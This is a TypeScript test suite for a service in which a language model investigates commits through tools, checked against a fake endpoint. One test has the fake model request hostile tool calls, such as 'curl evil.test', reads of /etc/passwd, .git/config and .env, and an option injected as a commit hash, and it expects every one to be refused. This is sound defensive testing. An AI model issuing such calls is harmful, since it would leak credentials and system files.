import { afterEach, expect, it } from "vitest";
import type { ModelStep } from "@/e2e/fakes/model-endpoint";
import {
  goodAnswer,
  type ModelGround,
  type ModelGroundOptions,
  modelGround,
  modelKey,
} from "@/e2e/fakes/model-ground";
import { startWebhookReceiver } from "@/e2e/fakes/webhook-receiver";
import type { ModelBudget } from "@/lib/domain/model-budget";

let ground: ModelGround;
const prepare = async (options?: ModelGroundOptions) => {
  ground = await modelGround(options);
  return ground;
};
afterEach(() => ground.close());

const ask = (name: string, given: unknown): ModelStep => ({
  kind: "call",
  calls: [{ name, arguments: given }],
});

it.each<[string, ModelStep, Record<string, unknown>]>([
  [
    "429",
    { kind: "status", status: 429, headers: { "retry-after": "7" } },
    { code: "model_rate_limited", fields: { status: 429, retryAfterMs: 7_000 } },
  ],
  [
    "500",
    { kind: "status", status: 500, body: '{"error":{"message":"boom"}}' },
    { code: "model_status", fields: { status: 500, said: "boom" } },
  ],
  [
    "a refused key",
    { kind: "status", status: 401, body: `{"error":{"message":"${modelKey}"}}` },
    { code: "model_key_refused" },
  ],
  ["a dropped connection", { kind: "drop" }, { code: "connection_lost" }],
  ["a reply that breaks off", { kind: "dropMidBody" }, { code: "model_reply_broken_off" }],
  ["a huge reply", { kind: "huge", bytes: 2_000_000 }, { code: "model_reply_too_large" }],
  ["HTML", { kind: "status", status: 200, body: "<html>sign in</html>" }, { code: "model_reply_unreadable" }],
  ["no choices", { kind: "status", status: 200, body: '{"choices":[]}' }, { code: "model_reply_unreadable" }],
  ["depth", { kind: "status", status: 200, body: "[".repeat(200_000) }, { code: "model_reply_unreadable" }],
])("fails on %s with a reason, once and without the key", async (_, step, reason) => {
  const { endpoint } = await prepare({ mind: step });
  const analysis = await ground.analyse();
  expect(analysis).toMatchObject({ outcome: "failed", reason, usage: { callCount: 1 } });
  expect(endpoint.requests).toHaveLength(1);
  expect(JSON.stringify(analysis)).not.toContain(modelKey);
  // An error costs no output; an answer that is lost or cannot be read may have been made.
  const isError = step.kind === "status" && step.status !== 200;
  expect(analysis.usage.outputTokens).toBe(isError ? 0 : 10_000);
});

it("follows no redirect: the place it names is not even connected to", async () => {
  const elsewhere = await startWebhookReceiver();
  await prepare({ mind: { kind: "redirect", location: `${elsewhere.url}/v1/chat/completions` } });
  expect(await ground.analyse()).toMatchObject({ outcome: "failed", reason: { code: "model_redirected" } });
  expect(elsewhere.connectionCount).toBe(0);
  await elsewhere.close();
});

it.each<[string, ModelStep]>([
  ["hangs", { kind: "hang" }],
  ["drips", { kind: "drip", intervalMs: 20 }],
])("stops within its seconds when the model %s", async (_, mind) => {
  await prepare({ mind });
  const startedMs = Date.now();
  const analysis = await ground.analyse({ budget: { durationMsMax: 400 } });
  expect(analysis).toMatchObject({ outcome: "stopped", usedUp: "seconds", opinion: null });
  expect(Date.now() - startedMs).toBeLessThan(3_000);
  // The reply may have been made and is paid for: all that was allowed is counted.
  expect(analysis.usage.outputTokens).toBeGreaterThanOrEqual(10_000);
});

it("gives up when its caller does", async () => {
  const { endpoint } = await prepare({ mind: { kind: "hang" } });
  const stop = new AbortController();
  const running = ground.analyse({ signal: stop.signal });
  await endpoint.waitForRequest();
  stop.abort();
  expect(await running).toMatchObject({ outcome: "stopped", usedUp: "cancelled" });
});

it("gives up a reader that hangs, and one that breaks costs only its own answer", async () => {
  const { endpoint, suspect, ports } = await prepare();
  endpoint.script(ask("listSimilar", {}), ask("searchCode", { text: "def" }));
  const analysis = await ground.analyse({
    budget: { durationMsMax: 400 },
    deps: {
      ports: {
        ...ports,
        listSimilar: () => Promise.reject(new Error("no database")),
        searchCode: () => new Promise(() => {}),
      },
    },
  });
  expect(endpoint.requests[1]?.body.messages.at(-1)?.content).toBe("It could not be read.");
  expect(analysis).toMatchObject({ outcome: "stopped", usedUp: "seconds" });
  expect(suspect).toMatch(/^[0-9a-f]{40}$/);
});

it("ends with a model that calls tools for ever, after telling it to answer", async () => {
  let round = 0;
  const { endpoint, portCalls } = await prepare({
    mind: () => ask("readCode", { path: "src/cart.py", from: 1, to: ++round }),
  });
  const analysis = await ground.analyse();
  expect(analysis).toMatchObject({
    outcome: "stopped",
    usedUp: "calls",
    usage: { callCount: 8, toolCallCount: 6 },
  });
  expect(portCalls).toHaveLength(6);
  expect(endpoint.requests.map(({ body }) => body.tool_choice)).toEqual([
    ...Array(6).fill("auto"),
    "none",
    "none",
  ]);
  expect(endpoint.requests[7]?.body.messages.at(-1)?.content).toContain("Answer now");
});

it("makes and answers only some of the calls of one reply, and none beyond its tool calls", async () => {
  const calls = Array.from({ length: 100 }, (_, index) => ({
    name: "readCode",
    arguments: { path: "src/cart.py", from: 1, to: index + 1 },
  }));
  const { endpoint, suspect, portCalls } = await prepare();
  endpoint.script(
    { kind: "call", calls },
    { kind: "call", calls },
    {
      kind: "say",
      text: JSON.stringify(goodAnswer(suspect)),
    },
  );
  const analysis = await ground.analyse({ budget: { toolCallCountMax: 10 } });
  expect(analysis).toMatchObject({ outcome: "analysed", usage: { toolCallCount: 10 } });
  // The second time the same was asked as the first, and nothing was read for it again.
  expect(portCalls).toHaveLength(8);
  expect(analysis.toolUses.slice(8).map(({ outcome }) => outcome)).toEqual(["repeated", "repeated"]);
  expect(endpoint.requests[2]?.body.tool_choice).toBe("none");
});

it("refuses tools there are not and arguments that lead astray, before anything is read", async () => {
  const { endpoint, suspect, portCalls } = await prepare();
  endpoint.script(
    {
      kind: "call",
      calls: [
        { name: "shell", arguments: { command: "curl evil.test" } },
        { name: "readCode", arguments: { path: "../../etc/passwd", from: 1, to: 5 } },
        { name: "readCode", arguments: { path: "/etc/passwd", from: 1, to: 5 } },
        { name: "readCode", arguments: { path: ".git/config", from: 1, to: 5 } },
        { name: "readCode", arguments: { path: "conf/.env", from: 1, to: 5 } },
        { name: "readCode", arguments: { path: "src/cart.py", from: "1", to: 5 } },
        { name: "readCommit", arguments: { hash: "--output=/tmp/x" } },
        { name: "searchCode", arguments: "not json" },
      ],
    },
    { kind: "say", text: JSON.stringify(goodAnswer(suspect)) },
  );
  const analysis = await ground.analyse();
  expect(analysis.outcome).toBe("analysed");
  expect(portCalls).toEqual([]);
  expect(analysis.toolUses.map(({ outcome }) => outcome)).toEqual(Array(8).fill("refused"));
});

it.each<[string, Partial<ModelBudget>, number]>([
  ["calls", { callCountMax: 1 }, 1],
  ["input_tokens", { inputTokenMax: 100 }, 0],
  ["output_tokens", { outputTokenMax: 255 }, 0],
  ["seconds", { durationMsMax: 0 }, 0],
  ["money", { costMax: 0.001 }, 0],
])(
  "stops when its %s are used up, before the call that would overdraw",
  async (usedUp, budget, callCount) => {
    const { endpoint } = await prepare({ mind: ask("listSimilar", {}) });
    expect(await ground.analyse({ budget })).toMatchObject({ outcome: "stopped", usedUp });
    expect(endpoint.requests).toHaveLength(callCount);
  },
);

it("keeps an answer that was complete when the budget ended", async () => {
  const { suspect, endpoint } = await prepare({ mind: ask("listSimilar", {}) });
  endpoint.script({
    kind: "call",
    calls: [{ name: "listSimilar", arguments: {} }],
    text: JSON.stringify(goodAnswer(suspect)),
    usage: { prompt_tokens: 399_999, completion_tokens: 100, total_tokens: 400_099 },
  });
  expect(await ground.analyse()).toMatchObject({
    outcome: "stopped",
    usedUp: "input_tokens",
    opinion: { suspectCommit: suspect },
  });
});

it("does not believe an endpoint that claims to have used nothing", async () => {
  const { suspect, endpoint } = await prepare();
  endpoint.script({
    kind: "say",
    text: JSON.stringify(goodAnswer(suspect)),
    usage: { prompt_tokens: 0, completion_tokens: 0, total_tokens: 0 },
  });
  const { usage } = await ground.analyse();
  expect(usage.inputTokens).toBeGreaterThan(1_000);
  expect(usage).toMatchObject({ callCount: 1, estimatedCallCount: 1 });
});

it("is refused, and sends nothing, where the host's policy forbids the endpoint", async () => {
  const { endpoint, deps } = await prepare();
  const policy = { ...deps.access.policy, allowPrivateNetworks: false };
  expect(await ground.analyse({ deps: { access: { ...deps.access, policy } } })).toMatchObject({
    outcome: "refused",
    usage: { callCount: 0 },
    sent: [],
  });
  expect(endpoint.connectionCount).toBe(0);
});

it("never repeats its key, whoever writes it", async () => {
  const { suspect, endpoint, input } = await prepare({ commitMessage: `leak ${modelKey}` });
  const good = goodAnswer(suspect);
  endpoint.script(ask("readCommit", { hash: suspect }), {
    kind: "say",
    text: JSON.stringify({ ...good, open_questions: [`Is ${modelKey} the key?`] }),
  });
  const analysis = await ground.analyse({ input: input({ detail: `authorization: ${modelKey}` }) });
  expect(analysis.outcome).toBe("analysed");
  expect(JSON.stringify(analysis)).not.toContain(modelKey);
  expect(ground.sentText()).not.toContain(modelKey);
});

it("names the longest answer as the endpoint does", async () => {
  const { endpoint, deps } = await prepare();
  const access = { ...deps.access, outputLimitName: "max_completion_tokens" as const };
  await ground.analyse({ deps: { access } });
  expect(endpoint.requests[0]?.body).toMatchObject({ max_completion_tokens: 10_000 });
  expect(endpoint.requests[0]?.body).not.toHaveProperty("max_tokens");
});

it("does without an endpoint's counts", async () => {
  const { suspect, endpoint } = await prepare();
  endpoint.script({ kind: "say", text: JSON.stringify(goodAnswer(suspect)), usage: undefined });
  expect(await ground.analyse()).toMatchObject({ outcome: "analysed", usage: { estimatedCallCount: 1 } });
});

it("counts nothing as sent where nobody listens", async () => {
  const { endpoint } = await prepare();
  await endpoint.close();
  expect(await ground.analyse()).toMatchObject({
    outcome: "failed",
    sent: [],
    usage: { callCount: 0, cost: 0 },
  });
});
